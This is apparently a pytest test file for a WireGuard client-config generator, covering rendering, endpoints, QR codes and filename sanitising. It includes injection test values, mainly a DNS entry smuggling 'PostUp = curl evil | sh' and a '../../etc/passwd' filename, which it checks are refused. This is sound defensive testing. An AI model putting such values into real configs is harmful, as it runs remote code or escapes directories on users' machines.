from __future__ import annotations

import base64
import binascii
import re

import pytest
import segno

from controller.errors import ValidationFailed
from controller.wireguard_config import (
    PRIVATE_KEY_PLACEHOLDER,
    config_filename,
    format_endpoint,
    make_qr,
    normalise_endpoint,
    qr_code_data_url,
    render_client_config,
)
from controller.wireguard_keys import generate_keypair, generate_preshared_key

PRIVATE, _ = generate_keypair()
_, SERVER_PUBLIC = generate_keypair()
PSK = generate_preshared_key()


def parse(text: str) -> dict[str, dict[str, str]]:
    """A minimal wg-quick parser: sections of `Key = value`, comments and blank lines skipped."""
    sections: dict[str, dict[str, str]] = {}
    current: dict[str, str] | None = None
    for line in text.splitlines():
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        if m := re.fullmatch(r"\[(\w+)\]", line):
            current = sections.setdefault(m.group(1), {})
            continue
        key, sep, value = line.partition("=")
        assert sep and current is not None, line
        assert key.strip() not in current
        current[key.strip()] = value.strip()
    return sections


def render(**overrides: object) -> str:
    args: dict[str, object] = dict(
        private_key=PRIVATE, addresses=["10.0.0.3/32", "2001:db8::3/128"], dns=["8.8.8.8", "8.8.4.4"], mtu=1420,
        server_public_key=SERVER_PUBLIC, preshared_key=PSK, endpoint="your-server.com:51820",
        allowed_ips=["0.0.0.0/0", "::/0"], persistent_keepalive=25)
    args.update(overrides)
    return render_client_config(**args)  # type: ignore[arg-type]


def test_full_config_round_trips() -> None:
    text = render()
    assert text.endswith("\n") and text.startswith("[Interface]\n")
    assert parse(text) == {
        "Interface": {"PrivateKey": PRIVATE, "Address": "10.0.0.3/32, 2001:db8::3/128", "DNS": "8.8.8.8, 8.8.4.4",
                      "MTU": "1420"},
        "Peer": {"PublicKey": SERVER_PUBLIC, "PresharedKey": PSK, "Endpoint": "your-server.com:51820",
                 "AllowedIPs": "0.0.0.0/0, ::/0", "PersistentKeepalive": "25"},
    }


def test_optional_fields_are_omitted_like_the_seed_example() -> None:
    text = render(dns=[], mtu=None, preshared_key=None, persistent_keepalive=None)
    assert parse(text) == {
        "Interface": {"PrivateKey": PRIVATE, "Address": "10.0.0.3/32, 2001:db8::3/128"},
        "Peer": {"PublicKey": SERVER_PUBLIC, "Endpoint": "your-server.com:51820", "AllowedIPs": "0.0.0.0/0, ::/0"},
    }
    for absent in ("DNS", "MTU", "PresharedKey", "PersistentKeepalive"):
        assert absent not in text


def test_missing_private_key_gives_a_commented_placeholder() -> None:
    text = render(private_key=None)
    assert PRIVATE_KEY_PLACEHOLDER in text.splitlines()
    assert PRIVATE_KEY_PLACEHOLDER.startswith("#")
    assert "PrivateKey" not in parse(text)["Interface"]


@pytest.mark.parametrize(("endpoint", "expected"), [
    ("[2001:db8::1]:51820", "[2001:db8::1]:51820"),
    ("2001:db8::1:51820", "[2001:db8::1]:51820"),  # unambiguous: 51820 is not a hextet
    ("[2001:DB8:0::1]:443", "[2001:db8::1]:443"),
    ("203.0.113.5:51820", "203.0.113.5:51820"),
    ("vpn.example.com:1", "vpn.example.com:1"),
])
def test_endpoints(endpoint: str, expected: str) -> None:
    assert parse(render(endpoint=endpoint))["Peer"]["Endpoint"] == expected
    assert normalise_endpoint(endpoint) == expected


def test_format_endpoint() -> None:
    assert format_endpoint("2001:db8::1", 51820) == "[2001:db8::1]:51820"
    assert format_endpoint("[2001:db8::1]", 51820) == "[2001:db8::1]:51820"
    assert format_endpoint("198.51.100.1", 51820) == "198.51.100.1:51820"
    assert format_endpoint("node-1.example.com", 51820) == "node-1.example.com:51820"


@pytest.mark.parametrize("endpoint", ["2001:db8::1:8080", "2001:db8::1", "vpn.example.com", "host:0", "host:65536",
                                      ":51820", "a b:51820", "[2001:db8::1]", "host:port", "a:b:51820", ""])
def test_bad_endpoints_are_rejected(endpoint: str) -> None:
    with pytest.raises(ValidationFailed) as e:
        render(endpoint=endpoint)
    assert set(e.value.details) == {"endpoint"}


@pytest.mark.parametrize(("field", "arg", "value"), [
    ("dns_servers", "dns", ["8.8.8.8\nPostUp = curl evil | sh"]),
    ("allowed_ips", "allowed_ips", ["0.0.0.0/0\r\n"]),
    ("addresses", "addresses", ["10.0.0.3/32", "\n[Peer]"]),
    ("server_public_key", "server_public_key", "nope"),
    ("preshared_key", "preshared_key", "nope"),
    ("private_key", "private_key", "nope"),
])
def test_injected_lines_and_bad_keys_are_refused(field: str, arg: str, value: object) -> None:
    with pytest.raises(ValidationFailed) as e:
        render(**{arg: value})
    assert set(e.value.details) == {field}


def test_qr_code_data_url_is_a_png_of_the_config() -> None:
    text = render()
    url = qr_code_data_url(text)
    prefix = "data:image/png;base64,"
    assert url.startswith(prefix)
    png = base64.b64decode(url[len(prefix):], validate=True)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")
    qr = make_qr(text)
    assert not qr.is_micro and qr.error in {"L", "M", "Q", "H"}
    assert width == height == qr.symbol_size(scale=8)[0] >= 400  # big enough for a phone camera
    # the chosen version holds the text: segno's own minimal version at this error level is the same
    assert qr.version == segno.make_qr(text, error=qr.error, boost_error=False).version
    assert qr.designator == make_qr(text).designator  # deterministic
    with pytest.raises(binascii.Error):
        base64.b64decode("not base64!", validate=True)


def test_qr_code_handles_a_long_config() -> None:
    text = render(allowed_ips=[f"10.{i}.0.0/16" for i in range(60)])
    assert len(text) > 1000
    assert qr_code_data_url(text).startswith("data:image/png;base64,iVBORw0KGgo")


@pytest.mark.parametrize(("name", "expected"), [
    ("wg0", "wg0.conf"),
    ("client2", "client2.conf"),
    ("my phone (work)", "my_phone_work.conf"),
    ("a-very-long-tunnel-name-indeed", "a-very-long-tun.conf"),
    ("Café", "Cafe.conf"),
    ("../../etc/passwd", "etc_passwd.conf"),
    ("手机", "wg0.conf"),
    ("", "wg0.conf"),
    ("...", "wg0.conf"),
    ("CON", "wg-CON.conf"),
    ("nul.txt", "wg-nul.txt.conf"),
    ("a=b+c.d_e", "a=b+c.d_e.conf"),
])
def test_config_filename(name: str, expected: str) -> None:
    result = config_filename(name)
    assert result == expected
    assert re.fullmatch(r"[a-zA-Z0-9_=+.-]{1,15}\.conf", result)
